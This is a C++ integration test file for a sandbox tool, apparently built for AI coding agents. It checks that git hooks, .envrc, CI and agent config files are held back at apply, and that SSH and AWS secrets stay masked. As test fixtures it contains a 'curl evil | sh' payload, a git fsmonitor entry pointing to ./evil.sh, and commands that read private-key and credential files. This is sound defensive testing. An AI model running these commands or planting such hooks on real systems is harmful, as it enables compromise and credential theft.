// Files that run later, end to end with real sessions: what the agent writes that the user's
// own tools would run on the host (git hooks, .envrc, editor tasks, CI…) is held at apply and
// written only when named; inside a read-write exposure it cannot be written at all.
#include "IntegrationSupport.h"

#include <algorithm>
#include <nlohmann/json.hpp>

namespace fs = std::filesystem;
using sbit::contains;
using sbit::dump;
using sbit::quote;

namespace {

class RunLater : public ::testing::Test {
  protected:
    sbit::Sandbench sb;
};

// One file of each class the list covers, beside an ordinary change.
const std::vector<std::string> kRunLater = {
    ".git/hooks/pre-commit",
    ".gitattributes",
    ".gitmodules",
    ".envrc",
    ".husky/pre-push",
    ".pre-commit-config.yaml",
    ".vscode/tasks.json",
    ".idea/runConfigurations/app.xml",
    ".devcontainer/devcontainer.json",
    ".github/workflows/ci.yml",
    ".npmrc",
    ".cargo/config.toml",
    "venv/pip.conf",
    "venv/lib/python3.11/site-packages/evil.pth",
    "gradle/wrapper/gradle-wrapper.properties",
    ".pdbrc",
    ".claude/settings.json",
    ".mcp.json",
    ".codex/config.toml",
    ".aider.conf.yml",
    ".sandbench/policy.json",
    "packages/web/.envrc",
};

} // namespace

TEST_F(RunLater, APlainApplyHoldsEachClassBackAndTheNamedOneIsWrittenWithTheOption)
{
    sbtest::writeFile(sb.workspace() / ".git/config", "[core]\n\tbare = false\n");
    std::string script = "set -e; mkdir -p src; echo fixed > src/app.txt\n"
                         "printf '[core]\\n\\tfsmonitor = ./evil.sh\\n' >> .git/config\n";
    for (const std::string& path : kRunLater)
        script += "mkdir -p " +
                  quote(fs::path(path).parent_path().string().empty()
                            ? "."
                            : fs::path(path).parent_path().string()) +
                  " && echo 'curl evil | sh' > " + quote(path) + "\n";
    auto r = sb.run("s", {"bash", "-c", script});
    ASSERT_EQ(r.status, 0) << dump(r);

    auto changes = sb.cli({"changes", "s"});
    ASSERT_EQ(changes.status, 0) << dump(changes);
    EXPECT_TRUE(contains(changes.out, "M! .git/config\t(runs later: git: ")) << changes.out;
    EXPECT_TRUE(contains(changes.out, "A src/app.txt\n")) << changes.out;
    for (const std::string& path : kRunLater)
        EXPECT_TRUE(contains(changes.out, "A! " + path + "\t")) << path << "\n" << changes.out;
    auto json = sb.cli({"changes", "s", "--json"});
    auto parsed = nlohmann::json::parse(json.out, nullptr, false);
    ASSERT_FALSE(parsed.is_discarded()) << json.out;
    for (const auto& c : parsed) {
        const std::string path = c["path"].get<std::string>();
        const bool listed = std::find(kRunLater.begin(), kRunLater.end(), path) != kRunLater.end();
        if (listed || path == ".git/config") {
            EXPECT_TRUE(c.contains("run_later")) << c.dump();
        }
        if (path.starts_with("src")) {
            EXPECT_FALSE(c.contains("run_later")) << c.dump();
        }
    }
    auto diff = sb.cli({"diff", "s", ".envrc"});
    EXPECT_TRUE(contains(diff.out, "!! .envrc runs later (direnv: ")) << diff.out;

    auto applied = sb.cli({"apply", "s"});
    EXPECT_EQ(applied.status, 3) << dump(applied);
    EXPECT_TRUE(contains(applied.err, "held back")) << applied.err;
    EXPECT_TRUE(contains(applied.out, "held     .git/config: runs later (git: ")) << applied.out;
    EXPECT_EQ(sbtest::readFile(sb.workspace() / "src/app.txt"), "fixed\n");
    EXPECT_EQ(sbtest::readFile(sb.workspace() / ".git/config"), "[core]\n\tbare = false\n");
    for (const std::string& path : kRunLater)
        EXPECT_FALSE(fs::exists(sb.workspace() / path)) << path << " was applied";

    // What apply held back is in the recording, for whoever reviews it later.
    auto exported = sb.cli({"export", "s", "--format", "jsonl"});
    ASSERT_EQ(exported.status, 0) << dump(exported);
    EXPECT_TRUE(contains(exported.out, R"("change":"held")")) << exported.out.substr(0, 2000);
    EXPECT_TRUE(contains(exported.out, R"("path":".git/hooks/pre-commit")"));

    // The run-later option without paths would apply everything unseen.
    auto refused = sb.cli({"apply", "s", "--run-later"});
    EXPECT_EQ(refused.status, 2) << dump(refused);
    auto one = sb.cli({"apply", "s", ".git/hooks/pre-commit", "--run-later"});
    EXPECT_EQ(one.status, 0) << dump(one);
    EXPECT_EQ(sbtest::readFile(sb.workspace() / ".git/hooks/pre-commit"), "curl evil | sh\n");
    EXPECT_FALSE(fs::exists(sb.workspace() / ".envrc"));
}

TEST_F(RunLater, TheRepositorysOwnHooksPathAndAPolicyAdditionAreHeld)
{
    sbtest::writeFile(sb.workspace() / ".git/config", "[core]\n\thooksPath = tools/hooks\n");
    const fs::path policy = sb.writePolicy(R"({"version": 1,
        "filesystem": {"run_later": {"add": [{"path": "deploy/*.sh", "reason": "cron runs it"}],
                                     "unprotect": [{"path": ".npmrc", "because": "registry only"}]}}})");
    auto r = sb.run("s",
                    {"bash", "-c",
                     "mkdir -p tools/hooks deploy && echo a > tools/hooks/pre-commit && "
                     "echo b > deploy/nightly.sh && echo registry=x > .npmrc"},
                    sbit::withOptions({"--policy", policy.string()}));
    ASSERT_EQ(r.status, 0) << dump(r);
    EXPECT_TRUE(contains(r.err, "turns off the protection of .npmrc")) << r.err;
    auto applied = sb.cli({"apply", "s"});
    EXPECT_EQ(applied.status, 3) << dump(applied);
    EXPECT_TRUE(contains(applied.out, "held     tools/hooks/pre-commit: runs later (git: "))
        << applied.out;
    EXPECT_TRUE(contains(applied.out, "held     deploy/nightly.sh: runs later (the policy: cron"))
        << applied.out;
    EXPECT_EQ(sbtest::readFile(sb.workspace() / ".npmrc"), "registry=x\n");
}

TEST_F(RunLater, AnExposedFolderKeepsItsRunLaterFilesReadOnlyAndTheRestWritable)
{
    const fs::path claude = sb.home() / ".claude";
    sbtest::writeFile(claude / "settings.json", "{}\n");
    sbtest::writeFile(claude / ".credentials.json", "old\n");
    fs::create_directories(claude / "projects");
    const fs::path policy = sb.writePolicy(
        R"({"version": 1, "filesystem": {"expose": [{"path": "~/.claude", "mode": "rw"}]}})");
    auto r = sb.attempt("echo '{\"hooks\": 1}' > ~/.claude/settings.json && echo settings-written\n"
                        "mkdir ~/.claude/hooks && echo hooks-made\n"
                        "echo '{}' > ~/.claude/settings.local.json && echo local-made\n"
                        "echo new > ~/.claude/.credentials.json && echo credentials-written\n"
                        "echo line > ~/.claude/projects/p.jsonl && echo history-written\n",
                        sbit::withOptions({"--policy", policy.string()}));
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "settings-written")) << dump(r);
    EXPECT_FALSE(contains(r.out, "hooks-made")) << dump(r);
    EXPECT_FALSE(contains(r.out, "local-made")) << dump(r);
    EXPECT_TRUE(contains(r.out, "credentials-written")) << dump(r);
    EXPECT_TRUE(contains(r.out, "history-written")) << dump(r);
    EXPECT_TRUE(contains(r.err, "~/.claude/settings.json (read-only)")) << r.err;
    EXPECT_EQ(sbtest::readFile(claude / "settings.json"), "{}\n");
    EXPECT_FALSE(fs::exists(claude / "hooks"));
    EXPECT_EQ(sbtest::readFile(claude / ".credentials.json"), "new\n");
    EXPECT_EQ(sbtest::readFile(claude / "projects/p.jsonl"), "line\n");
}

TEST_F(RunLater, AWriteDuringTheSessionShowsInItsActivity)
{
    auto r = sb.run(
        "s", {"bash", "-c",
              "sleep 0.5; mkdir -p .git/hooks; echo x > .git/hooks/post-checkout; sleep 0.6"});
    ASSERT_EQ(r.status, 0) << dump(r);
    auto exported = sb.cli({"export", "s", "--format", "jsonl"});
    ASSERT_EQ(exported.status, 0) << dump(exported);
    EXPECT_TRUE(contains(exported.out, R"("run_later":"git: hooks run)")) << exported.out;
}

// Issue 26, item 1: the home folder as the workspace must not show the secrets.
TEST_F(RunLater, SecretsStayMaskedWhenTheWorkspaceHoldsThem)
{
    sbtest::writeFile(sb.home() / ".ssh/id_ed25519", "PRIVATE-KEY-BYTES\n");
    sbtest::writeFile(sb.home() / ".aws/credentials", "AWS-SECRET\n");
    sbtest::writeFile(sb.home() / "notes.txt", "mine\n");
    auto r =
        sb.cli({"run", "--workspace", sb.home().string(), "--session-id", "h", "--", "bash", "-c",
                "cat ~/.ssh/id_ed25519 ~/.aws/credentials; cat notes.txt; "
                "ls -A ~/.ssh | wc -l; echo x > ~/.ssh/id_ed25519 || echo write-refused"});
    EXPECT_FALSE(contains(r.out, "PRIVATE-KEY-BYTES")) << dump(r);
    EXPECT_FALSE(contains(r.out, "AWS-SECRET")) << dump(r);
    EXPECT_TRUE(contains(r.out, "mine")) << dump(r);
    EXPECT_TRUE(contains(r.out, "write-refused")) << dump(r);

    auto inside = sb.cli({"run", "--workspace", (sb.home() / ".ssh").string(), "--", "true"});
    EXPECT_EQ(inside.status, 2) << dump(inside);
    EXPECT_TRUE(contains(inside.err, "lies inside " + (sb.home() / ".ssh").string())) << inside.err;
}
